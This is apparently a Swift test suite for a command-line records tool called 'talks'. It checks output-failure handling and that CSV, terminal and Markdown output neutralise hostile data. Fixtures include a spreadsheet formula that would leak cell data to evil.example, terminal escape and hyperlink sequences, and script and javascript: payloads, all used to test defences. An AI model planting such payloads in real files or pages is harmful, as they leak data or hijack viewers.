import Foundation
import TestSupport
import Testing

/// Everything `talks` writes is read by a terminal, a spreadsheet or a Markdown viewer, and
/// standard output may be full, closed or gone: nothing from the data may act there, and no
/// failure to print may crash or hide what was committed (spec/cli.md, exit 74).
@Suite struct OutputTests {
    /// Runs a `sh -c` script with `$T` the binary and `$DB` the workspace's store.
    func shell(_ w: Workspace, _ script: String) throws -> Run {
        try Running([script], environment: ["T": Fixture.binary, "DB": w.db], shell: true).finish()
    }

    @Test func aFullDiskOnStandardOutputExits74AndSaysNothingWasWritten() throws {
        let w = try Workspace()
        for command in ["list talks", "export", "check --as-of 2026-11-21", "show T2026-003", "audit log", "--help"] {
            let run = try shell(w, "$T --db \"$DB\" \(command) > /dev/full")
            #expect(run.status == 74, "\(command): \(run.stderr)")
            #expect(run.stderr.contains("cannot write to standard output"), "\(command): \(run.stderr)")
            #expect(!run.stderr.contains("Fatal error") && run.stderr.split(separator: "\n").count == 1, "\(command)")
        }
    }

    /// Under `--lang zh` the system's reason is Chinese too, for standard output and a file.
    @Test func theSystemsReasonIsChineseUnderLangZh() throws {
        let w = try Workspace()
        let full = try shell(w, "$T --lang zh --db \"$DB\" export > /dev/full")
        #expect(full.status == 74 && full.stderr.contains("无法写入标准输出（磁盘已满）"), "\(full.stderr)")
        let missing = try shell(w, "$T --lang zh --db \"$DB\" export --format xlsx --output \"$DB.none/x.xlsx\"")
        #expect(missing.status == 74 && missing.stderr.contains("（文件夹不存在）"), "\(missing.stderr)")
    }

    /// A write that committed says so when its confirmation cannot be printed, so a script does not
    /// retry it and record the talk twice.
    @Test func aCommittedRecordSaysSoWhenItsConfirmationCannotBePrinted() throws {
        let w = try Workspace()
        let run = try shell(
            w, "$T --db \"$DB\" record --kind regular --organization ap --talker p-zhou --held 2026-11-18 > /dev/full")
        #expect(run.status == 74)
        #expect(run.stderr.contains("T2026-030 was recorded; the confirmation could not be printed"), "\(run.stderr)")
        #expect(try w.run("show", "T2026-030").status == 0)
        let followUp = try shell(w, "$T --db \"$DB\" measures T2026-030 --reported 2026-11-20 > /dev/full")
        #expect(followUp.status == 74 && followUp.stderr.contains("T2026-030 was changed"), "\(followUp.stderr)")
    }

    /// What a committed write says on standard error after its confirmation is said also when the
    /// confirmation cannot be printed (helper-178: a load's notes of the history it replaced,
    /// their only record, were lost with it).
    @Test func aCommittedLoadsNotesAreSaidWhenItsConfirmationCannotBePrinted() throws {
        let w = try Workspace()
        #expect(try w.run("move", "qx", "--to", "lc", "--from", "2026-09-01").status == 0)
        let run = try shell(w, "$T --db \"$DB\" load \"\(Fixture.sample)\" > /dev/full")
        #expect(run.status == 74, "\(run.stderr)")
        #expect(run.stderr.contains("was loaded; the confirmation could not be printed"), "\(run.stderr)")
        #expect(run.stderr.contains("清溪县委 (qx): the document replaces its stored history"), "\(run.stderr)")
    }

    /// With standard output closed nothing is done at all, and the store's file can never take
    /// descriptor 1 and receive our output.
    @Test func aClosedStandardOutputStopsEveryCommandBeforeItStarts() throws {
        let w = try Workspace()
        let before = try w.export()
        let run = try shell(
            w, "$T --db \"$DB\" record --kind regular --organization ap --talker p-zhou --held 2026-11-18 >&-")
        #expect(run.status == 74)
        #expect(run.stderr.contains("standard output is closed; nothing was written to the store"), "\(run.stderr)")
        #expect(try w.export() == before)
        let closedInput = try shell(w, "$T --db \"$DB\" list talks <&- 2>&- | head -1")
        #expect(closedInput.status == 0 && closedInput.stdout.hasPrefix("id"))
        #expect(try sqlite3(w.db, "PRAGMA integrity_check") == "ok")
    }

    /// A document over 1 GiB is refused before it is read, and one from a pipe or device when it
    /// passes 1 GiB: `cat /dev/zero | talks load -` used to grow until the machine ran out.
    @Test func aDocumentOverOneGiBIsRefusedNotRead() throws {
        let w = try Workspace()
        let huge = w.folder + "/huge.json"
        #expect(FileManager.default.createFile(atPath: huge, contents: nil))
        #expect(truncate(huge, 1 << 30 + 1) == 0)
        let before = try w.export()
        let run = try w.run("load", huge)
        #expect(run.status == 2 && run.stderr.contains("larger than 1 GiB"), "\(run.stderr)")
        #expect(try w.export() == before)
        // (Of text: NULs alone are told at their first MiB.)
        let piped = try shell(w, "yes | head -c 1073741900 | $T --db \"$DB\" load -")
        #expect(piped.status == 2 && piped.stderr.contains("larger than 1 GiB"), "\(piped.stderr)")
    }

    /// A reader that stops early (`| head -1`), even with SIGPIPE ignored by the parent, ends the
    /// command quietly.
    @Test func aReaderThatGoesAwayEndsTheCommandQuietly() throws {
        let w = try Workspace()
        try bulkTalks(3_000, prefix: "PIPE").write(to: URL(fileURLWithPath: w.folder + "/bulk.json"))
        let loaded = try w.run("load", w.folder + "/bulk.json")
        #expect(loaded.status == 0, "\(loaded.stderr)")
        let run = try shell(w, "trap '' PIPE; $T --db \"$DB\" export | head -1; echo \"status ${PIPESTATUS:-}\"")
        #expect(run.stdout.hasPrefix("{"))
        #expect(run.stderr.isEmpty, "\(run.stderr)")
        let status = try shell(w, "trap '' PIPE; $T --db \"$DB\" list talks | head -1 >/dev/null; exit 0")
        #expect(status.stderr.isEmpty, "\(status.stderr)")
    }

    /// `--output` with a text format names the binary formats of the command asked, which alone
    /// are written to a file: `export` has no docx (it named docx and xlsx for every command).
    @Test func outputWithATextFormatNamesTheCommandsOwnBinaryFormats() throws {
        let w = try Workspace()
        let export = try w.run("export", "--format", "json", "--output", w.db + ".json")
        #expect(
            export.status == 64 && export.stderr.contains("--output goes with --format xlsx only"), "\(export.stderr)")
        let report = try w.run(
            "--lang", "zh", "report", "annual", "--conductor", "C", "--year", "2026", "--output", w.db + ".md")
        #expect(report.status == 64 && report.stderr.contains("--output 只用于 --format docx"), "\(report.stderr)")
        #expect(!FileManager.default.fileExists(atPath: w.db + ".json"))
    }

    /// `--output /dev/stdout` (or `/dev/fd/1`) through a pipe is standard output, as `-` is: it was
    /// refused as "a link to nothing" (helper-205), the pipe having no file to replace.
    @Test func outputNamingStandardOutputThroughAPipeWritesThere() throws {
        let w = try Workspace()
        let whole = try w.run("list", "talks", "--format", "xlsx")
        #expect(whole.status == 0 && !whole.output.isEmpty, "\(whole.stderr)")
        for name in ["/dev/stdout", "/dev/fd/1", "-"] {
            let named = try w.run("list", "talks", "--format", "xlsx", "--output", name)
            #expect(named.status == 0 && named.output == whole.output, "\(name): \(named.stderr)")
        }
        let docx = try shell(
            w,
            "$T --db \"$DB\" report annual --conductor jd --year 2026 --as-of 2026-11-21 --format docx --output /dev/stdout | wc -c"
        )
        #expect(
            docx.status == 0 && (Int(docx.stdout.trimmingCharacters(in: .whitespacesAndNewlines)) ?? 0) > 1_000,
            "\(docx.stderr)")
        // A file opened to append keeps what it held (helper-208: replaced by the workbook).
        let appended = try shell(
            w,
            "echo KEEP > \"$DB.out\"; $T --db \"$DB\" list talks --format xlsx --output /dev/stdout >> \"$DB.out\"; head -c 4 \"$DB.out\""
        )
        #expect(appended.status == 0 && appended.stdout == "KEEP", "\(appended.stdout)\(appended.stderr)")
    }

    /// A workbook goes into `--output`'s temporary file as it is made, the same bytes as on
    /// standard output; cut off part-way (here by a file size limit of 40 KB, under its ~60 KB),
    /// it leaves the file that was there and no temporary file.
    @Test func aWorkbookCutOffPartWayLeavesTheFileAsItWas() throws {
        let w = try Workspace()
        try bulkTalks(2_000, prefix: "BIG").write(to: URL(fileURLWithPath: w.folder + "/bulk.json"))
        #expect(try w.run("load", w.folder + "/bulk.json").status == 0)
        let whole = try w.run("list", "talks", "--format", "xlsx")
        #expect(whole.status == 0 && whole.output.count > 50_000, "\(whole.output.count)")
        let path = w.db + ".xlsx"
        #expect(try w.run("list", "talks", "--format", "xlsx", "--output", path).status == 0)
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == whole.output)
        try Data("what was there".utf8).write(to: URL(fileURLWithPath: path))
        // POSIX `ulimit -f` counts 512-byte blocks: 40 KB, above the store's 32 KB index (-shm).
        let cut = try shell(
            w, "trap '' XFSZ; ulimit -f 80; exec $T --db \"$DB\" list talks --format xlsx --output \"$DB.xlsx\"")
        #expect(cut.status == 74 && cut.stderr.contains(".xlsx (File too large)"), "\(cut.stderr)")
        #expect(try String(contentsOfFile: path, encoding: .utf8) == "what was there")
        let left = try FileManager.default.contentsOfDirectory(atPath: w.folder)
        #expect(!left.contains { $0.hasPrefix(".talks-") }, "\(left)")
    }

    /// A write past the shell's file size limit (`ulimit -f`) is told as a full disk is (exit 74,
    /// the output named and said to be cut off), where SIGXFSZ killed the command with no word
    /// (status 153) and left a CSV cut off mid-row for a clerk to take as whole.
    @Test func aFileSizeLimitIsAnOutputFailureNotASilentEnd() throws {
        let w = try Workspace()
        try bulkTalks(2_000, prefix: "BIG").write(to: URL(fileURLWithPath: w.folder + "/bulk.json"))
        #expect(try w.run("load", w.folder + "/bulk.json").status == 0)
        // 40 KB (512-byte blocks), above the store's 32 KB index (-shm), below the sheet. SIGXFSZ
        // as a clerk's shell leaves it: the test runner may ignore it, and its children with it.
        let limited = "ulimit -f 80; exec env --default-signal=XFSZ $T --db \"$DB\" list talks"
        let csv = try shell(w, "\(limited) --format csv > \"$DB.csv\"")
        #expect(csv.status == 74, "\(csv.status) \(csv.stderr)")
        #expect(csv.stderr.contains("cannot write to standard output (File too large)"), "\(csv.stderr)")
        #expect(csv.stderr.contains("What was printed is cut off"), "\(csv.stderr)")
        let xlsx = try shell(w, "\(limited) --format xlsx --output \"$DB.xlsx\"")
        #expect(xlsx.status == 74 && xlsx.stderr.contains(".xlsx (File too large)"), "\(xlsx.status) \(xlsx.stderr)")
        let left = try FileManager.default.contentsOfDirectory(atPath: w.folder)
        #expect(!left.contains { $0.hasPrefix(".talks-") || $0.hasSuffix(".xlsx") }, "\(left)")
    }

    /// A store that may not grow past the shell's file size limit says so, with the limit and
    /// what to do, not SQLite's "disk I/O error" and "check the disk" (helper-178, helper-179);
    /// exit 74, nothing written; in Chinese too.
    @Test func aStoreThatMayNotGrowSaysWhy() throws {
        let w = try Workspace()
        try bulkTalks(2_000, prefix: "BIG").write(to: URL(fileURLWithPath: w.folder + "/bulk.json"))
        let before = try w.run("export", "--include-confidential")
        let limited = try shell(
            w, "ulimit -f 80; exec env --default-signal=XFSZ $T --db \"$DB\" load '\(w.folder)/bulk.json'")
        #expect(limited.status == 74, "\(limited.status) \(limited.stderr)")
        #expect(
            limited.stderr.contains(
                "the store's files cannot grow past the largest file this process may write (ulimit -f: 40960 bytes). Nothing was written. Raise the limit"
            ),
            "\(limited.stderr)")
        let zh = try shell(
            w, "ulimit -f 80; exec env --default-signal=XFSZ $T --lang zh --db \"$DB\" load '\(w.folder)/bulk.json'")
        #expect(zh.status == 74 && zh.stderr.contains("存储的文件无法超过本进程可写文件的大小上限（ulimit -f：40960 字节）"), "\(zh.stderr)")
        #expect(try w.run("export", "--include-confidential").output == before.output)
    }

    /// A process that may open too few more files (a low `ulimit -n`, or a caller holding many
    /// open) is told so before the command does anything, where a national `check`, a load or
    /// `rules test` ended in a trap inside libdispatch (helpers 180–182); a low soft limit under a
    /// higher hard one is raised and the command runs; `man` is not refused.
    @Test func tooFewOpenFilesAreSaidNotATrap() throws {
        let w = try Workspace()
        let before = try w.run("export", "--include-confidential")
        for command in ["export --include-confidential", "check --as-of 2026-11-21", "load '\(Fixture.sample)'"] {
            let run = try shell(w, "ulimit -n 8; exec $T --db \"$DB\" \(command)")
            #expect(run.status == 74, "\(command): \(run.status) \(run.stderr)")
            #expect(
                run.stderr.hasPrefix("talks: this process may open only 5 more files (ulimit -n 8, 3 open already), ")
                    && run.stderr.contains("and talks needs 32; nothing was done."), "\(run.stderr)")
        }
        // Forty descriptors held by the caller, under a hard limit of 64: 21 left, too few; one
        // above the limit takes no slot.
        let held = try shell(
            w,
            "exec bash -c 'ulimit -n 64; for i in $(seq 10 49); do eval \"exec $i</dev/null\"; done; "
                + "exec 70</dev/null 2>&1; exec \"$T\" --db \"$DB\" check --as-of 2026-11-21'")
        // (43 open, or one or two more a test run in parallel let the shell inherit, its pipes opened
        // without close-on-exec at that moment: the fifty-sixth session, 44.)
        let open = held.stderr.firstRange(of: "(ulimit -n 64, ").flatMap { start in
            Int(held.stderr[start.upperBound...].prefix { $0.isNumber })
        }
        #expect(held.status == 74 && (43...45).contains(open ?? 0), "\(held.stderr)")
        for raisedBy in ["ulimit -S -n 8; ulimit -H -n 4096", "ulimit -S -n 4; ulimit -H -n 4096"] {
            let raised = try shell(w, "\(raisedBy); exec $T --db \"$DB\" export --include-confidential")
            #expect(raised.status == 0 && raised.output == before.output, "\(raisedBy): \(raised.stderr)")
        }
        let manual = try shell(w, "ulimit -n 8; exec $T man")
        #expect(manual.status == 0, "\(manual.stderr)")
        #expect(try w.run("export", "--include-confidential").output == before.output)
    }

    /// A load on a terminal rewrites a progress line, and never on one that says it obeys no
    /// control codes (`TERM=dumb`: helper-181, `\r` and `ESC[K` shown raw in Emacs's shell).
    @Test func aDumbTerminalGetsNoProgressLine() throws {
        let w = try Workspace()
        try bulkTalks(2_000, prefix: "BIG").write(to: URL(fileURLWithPath: w.folder + "/bulk.json"))
        func load(_ term: String) throws -> Run {
            try shell(w, "TERM=\(term) script -qec '$T --db $DB load \(w.folder)/bulk.json' /dev/null")
        }
        let xterm = try load("xterm")
        #expect(xterm.status == 0 && xterm.stdout.contains("writing 1000/") && xterm.stdout.contains("\u{1B}[K"))
        let dumb = try load("dumb")
        #expect(dumb.status == 0 && !dumb.stdout.contains("writing 1000/") && !dumb.stdout.contains("\u{1B}"))
        #expect(dumb.stdout.contains("loaded "), "\(dumb.stdout)")
    }

    /// A dataset of the sample whose first person is `name`.
    func sample(withPerson name: String, organization: String? = nil) throws -> String {
        var text = try String(contentsOfFile: Fixture.sample, encoding: .utf8)
        text = text.replacingOccurrences(of: "\"name\": \"曹明远\"", with: "\"name\": \(json(name))")
        if let organization {
            text = text.replacingOccurrences(of: "\"name\": \"安平市委\"", with: "\"name\": \(json(organization))")
        }
        return text
    }

    func json(_ text: String) -> String {
        String(decoding: try! JSONSerialization.data(withJSONObject: text, options: .fragmentsAllowed), as: UTF8.self)
    }

    static let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"清溪县委\")"

    /// Every CSV we write makes a formula inert, and `talks import` reads it back exactly.
    @Test func noCsvCellRunsAsAFormulaAndImportReadsItBack() throws {
        let w = try Workspace(loaded: false)
        #expect(try w.run("load", w.file("hostile.json", sample(withPerson: Self.formula))).status == 0)
        let outputs = [
            try w.run("list", "people", "--format", "csv"),
            try w.run("export", "--format", "csv", "--kind", "people"),
        ]
        for run in outputs {
            #expect(run.status == 0, "\(run.stderr)")
            #expect(run.stdout.contains("'=HYPERLINK"), "\(run.stdout.prefix(300))")
            #expect(!run.stdout.contains(",=") && !run.stdout.contains(",\"=") && !run.stdout.contains("\n="))
        }
        // Imported again, it changes nothing: the formula is the stored name, read as written.
        let original = try w.export()
        let imported = try w.run("import", w.file("people.csv", outputs[1].stdout), "--kind", "people")
        #expect(
            imported.status == 0 && imported.stdout.contains("0 new, 0 replaced"),
            "\(imported.stdout)\(imported.stderr)")
        #expect(try w.export() == original)
        // Into another store, where no one bears it, it is no name (helper-267: @SUM(A1) stored).
        let copy = try Workspace(loaded: false)
        #expect(try copy.run("load", w.file("copy.json", sample(withPerson: "曹明远"))).status == 0)
        let renaming = try copy.run("import", w.file("people.csv", outputs[1].stdout), "--kind", "people", "--yes")
        #expect(renaming.status == 2 && renaming.stderr.contains("not a name"), "\(renaming.stderr)")
    }

    /// Names and texts are refused when they hold controls (helper-227: texts were stored); a text
    /// put in behind the store's back, or by an earlier build, is shown escaped wherever a terminal
    /// shows it: tables, pages, the audit log and messages.
    @Test func controlCharactersNeverReachTheTerminal() throws {
        let w = try Workspace()
        // An entry may not hold a line break (a sheet writes one entry a line); the file name does.
        let hostile = "问题\u{1B}[2J\u{1B}]0;pwned\u{7}覆盖\u{202E}反转"
        let refused = try w.run(
            "record", "--kind", "regular", "--organization", "ap", "--talker", "p-zhou", "--held", "2026-11-18",
            "--problem", hostile)
        #expect(refused.status == 2 && refused.stderr.contains("(it has U+001B)"), "\(refused.stderr)")
        #expect(
            try w.run(
                "record", "--kind", "regular", "--organization", "ap", "--talker", "p-zhou", "--held", "2026-11-18",
                "--problem", "问题"
            ).status == 0)
        try sqlite3(w.db, "UPDATE talk_entry SET value = '\(hostile)' WHERE talk = 'T2026-030' AND list = 'problem'")
        let file = w.file("\u{1B}[2J\r.json", try String(contentsOfFile: Fixture.sample, encoding: .utf8))
        #expect(try w.run("load", file).status == 0)
        let runs = [
            try w.run("show", "T2026-030", "--include-confidential"),
            try w.run("list", "talks", "--include-confidential"),
            try w.run("audit", "log"),
            try w.run("show", "\u{1B}]8;;http://evil.example\u{7}T1"),
            try w.run("export", "--include-confidential"),
            try w.run("show", "T2026-030", "--include-confidential", "--format", "json"),
        ]
        for run in runs {
            for text in [run.stdout, run.stderr] {
                #expect(
                    !text.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\r" || $0 == "\u{7}" || $0 == "\u{202E}" })
            }
        }
        #expect(runs[0].stdout.contains("问题\\u{1B}[2J"))
        #expect(runs[3].status == 2 && runs[3].stderr.contains("\\u{1B}]8;;"))
        // The JSON escapes them, and loading it refuses them, naming the character only.
        let copy = try Workspace(loaded: false)
        let loaded = try copy.run("load", w.file("backup.json", runs[4].stdout))
        #expect(loaded.status == 2 && loaded.stderr.contains("(it has U+001B)") && !loaded.stderr.contains("问题"))
    }

    /// A committee's name with a line break (put into the store with the sqlite3 shell: `load`
    /// refuses it) heads its findings in `check`'s table escaped on its one line, as its cells do:
    /// it cannot begin a line of the report that looks like another committee or finding.
    @Test func aCommitteesNameWithALineBreakStaysOnItsHeadingLine() throws {
        let w = try Workspace()
        _ = try sqlite3(w.db, "UPDATE organization SET name = '长宁区委' || char(10) || 'violation  伪造' WHERE id = 'cn'")
        let run = try w.run("check", "--as-of", "2026-11-21")
        #expect(run.status == 1)
        #expect(run.stdout.contains("长宁区委\\nviolation  伪造（cn）"))
        #expect(!run.stdout.split(separator: "\n").contains { $0.hasPrefix("violation  伪造") })
    }

    /// A file's name with a line break, in what init, load and copy say they did and in a file
    /// that could not be written: shown escaped on its line, as in a store error (the break began
    /// what looked like another line of output, or another message).
    @Test func aFilesNameWithALineBreakStaysOnItsLine() throws {
        let w = try Workspace(loaded: false)
        let odd = w.folder + "/a\nb"
        let sample = w.file("s\nx.json", try String(contentsOfFile: Fixture.sample, encoding: .utf8))
        let runs = [
            try talks(["--db", odd + ".db", "init"]),
            try talks(["--db", odd + ".db", "load", sample]),
            try talks(["--db", odd + ".db", "copy", "--to", odd + "-copy.db"]),
        ]
        for run in runs { #expect(run.status == 0, "\(run.stderr)") }
        #expect(runs[0].stdout.hasPrefix("created store \(w.folder)/a\\nb.db (schema "), "\(runs[0].stdout)")
        #expect(runs[0].stdout.split(separator: "\n").count == 1, "\(runs[0].stdout)")
        #expect(runs[1].stdout.hasPrefix("loaded \(w.folder)/s\\nx.json:\n"), "\(runs[1].stdout)")
        #expect(runs[2].stdout.split(separator: "\n").count == 1, "\(runs[2].stdout)")
        let unwritten = try talks([
            "--db", odd + ".db", "report", "annual", "--conductor", "jd", "--year", "2026", "--format", "docx",
            "--output", w.folder + "/no\nsuch/r.docx",
        ])
        #expect(unwritten.status == 74, "\(unwritten.stderr)")
        #expect(unwritten.stderr.contains("cannot write \(w.folder)/no\\nsuch/r.docx ("), "\(unwritten.stderr)")
        #expect(!unwritten.stderr.contains("\ntalks: such"), "\(unwritten.stderr)")
    }

    /// A word with a line break quoted in a usage error (an unknown command, a value) is shown
    /// escaped on the message's one line: the break began what looked like another message.
    @Test(arguments: [
        ["odd\ntalks: fake"], ["check", "--as-of", "2026\ntalks: fake"], ["list", "talks\ntalks: fake"],
    ])
    func aWordWithALineBreakInAUsageErrorStaysOnItsLine(_ words: [String]) throws {
        let run = try talks(words)
        #expect(run.status == 64, "\(run.stderr)")
        #expect(run.stderr.split(separator: "\n").count == 1, "\(run.stderr)")
        #expect(run.stderr.contains("\\ntalks: fake"), "\(run.stderr)")
    }

    /// An id typed with a line break, quoted in a problem, and a rule file's name with one, in its
    /// `file:line:col`: shown escaped on the message's line (the break began what looked like
    /// another message).
    @Test func aQuotedValueAndARuleFilesNameStayOnTheirLine() throws {
        let w = try Workspace()
        let show = try w.run("show", "TR2026-01\ntalks: fake")
        #expect(show.status == 2, "\(show.stderr)")
        #expect(show.stderr.split(separator: "\n").count == 1, "\(show.stderr)")
        #expect(show.stderr.contains("\"TR2026-01\\ntalks: fake\""), "\(show.stderr)")
        let rules = w.file(
            "r\ntalks: x.rules", "pack x {\n  version \"1\"\n  effective 2026-01-01\n  title \"t\"\n}\nrule y {\n}\n")
        let lint = try w.run("rules", "lint", rules)
        #expect(lint.status == 2, "\(lint.stderr)")
        #expect(lint.stderr.contains("/r\\ntalks: x.rules:"), "\(lint.stderr)")
        #expect(!lint.stderr.contains("\ntalks: x.rules"), "\(lint.stderr)")
    }

    @Test func markdownReportsShowNamesAsPlainText() throws {
        let w = try Workspace(loaded: false)
        let name = "<script>alert(1)</script>[链接](javascript:alert(1))![](http://evil.example/x.png)|尾\\"
        #expect(try w.run("load", w.file("hostile.json", sample(withPerson: "曹明远", organization: name))).status == 0)
        let report = try w.run("report", "annual", "--conductor", "jd", "--year", "2026", "--as-of", "2026-11-21")
        #expect(report.status == 0, "\(report.stderr)")
        #expect(report.stdout.contains("\\<script\\>alert(1)\\</script\\>\\[链接\\](javascript:alert(1))\\!\\[\\]"))
        for marker in ["<", "](", "!["] {
            // Each occurrence is escaped: preceded by a backslash.
            let parts = report.stdout.components(separatedBy: marker).dropLast()
            #expect(parts.allSatisfy { $0.hasSuffix("\\") }, "an unescaped \(marker)")
        }
    }

    /// `record --file --replace` with a talk from the default (redacted) export keeps the stored
    /// problems and requirements; only texts the file gives replace them.
    @Test func replacingATalkFromARedactedExportKeepsItsConfidentialTexts() throws {
        let w = try Workspace()
        #expect(
            try w.run(
                "record", "--kind", "regular", "--organization", "ap", "--talker", "p-zhou", "--held", "2026-11-18",
                "--problem", "PLANTED-PROBLEM", "--requirement", "PLANTED-REQUIREMENT"
            ).status == 0)
        let redacted = try w.run("export").stdout
        let line = try #require(redacted.split(separator: "\n").first { $0.contains("\"T2026-030\"") })
        let object = line.trimmingCharacters(in: CharacterSet(charactersIn: " ,"))
        #expect(!object.contains("PLANTED"))
        let replaced = try w.run("record", "--file", w.file("talk.json", object), "--replace", "--talker", "p-zhou")
        #expect(replaced.status == 0, "\(replaced.stderr)")
        let kept = try w.export()
        #expect(kept.contains("PLANTED-PROBLEM") && kept.contains("PLANTED-REQUIREMENT"))
        // An explicit empty list clears them.
        let clearing = object.dropLast() + ", \"problems\": []}"
        #expect(try w.run("record", "--file", w.file("cleared.json", String(clearing)), "--replace").status == 0)
        let cleared = try w.export()
        #expect(!cleared.contains("PLANTED-PROBLEM") && cleared.contains("PLANTED-REQUIREMENT"))
    }

    /// Loading a redacted export whose marker was taken off (a clerk copying talks out of it)
    /// keeps the stored texts too: a talk or trigger that leaves them out never erases them.
    @Test func aRedactedDocumentWithoutItsMarkerErasesNothing() throws {
        let w = try Workspace()
        let before = try w.export()
        var document = try #require(
            try JSONSerialization.jsonObject(with: Data(w.run("export").stdout.utf8)) as? [String: Any])
        #expect(document.removeValue(forKey: "confidential") != nil)
        let file = w.folder + "/unmarked.json"
        try JSONSerialization.data(withJSONObject: document).write(to: URL(fileURLWithPath: file))
        let loaded = try w.run("load", file)
        #expect(loaded.status == 0, "\(loaded.stderr)")
        #expect(try w.export() == before)
    }

    @Test func anAnchorIsWrittenOnlyAsAnchorPrintsIt() throws {
        let w = try Workspace()
        let anchor = try w.run("audit", "anchor").stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(try w.run("audit", "verify", "--anchor", anchor).status == 0)
        for bad in ["+" + anchor, "0" + anchor, " " + anchor] {
            #expect(try w.run("audit", "verify", "--anchor", bad).status == 64, "\(bad)")
        }
    }

    @Test(arguments: ["list talks --year 1", "list talks --year 99999", "report annual --conductor jd --year 1999"])
    func everyYearFlagTakesTheSameYears(_ command: String) throws {
        let w = try Workspace()
        let run = try talks(["--db", w.db] + command.split(separator: " ").map(String.init))
        #expect(run.status == 64)
        #expect(run.stderr.contains("--year: ") && run.stderr.contains("from 2000 to 2100"), "\(run.stderr)")
    }
}
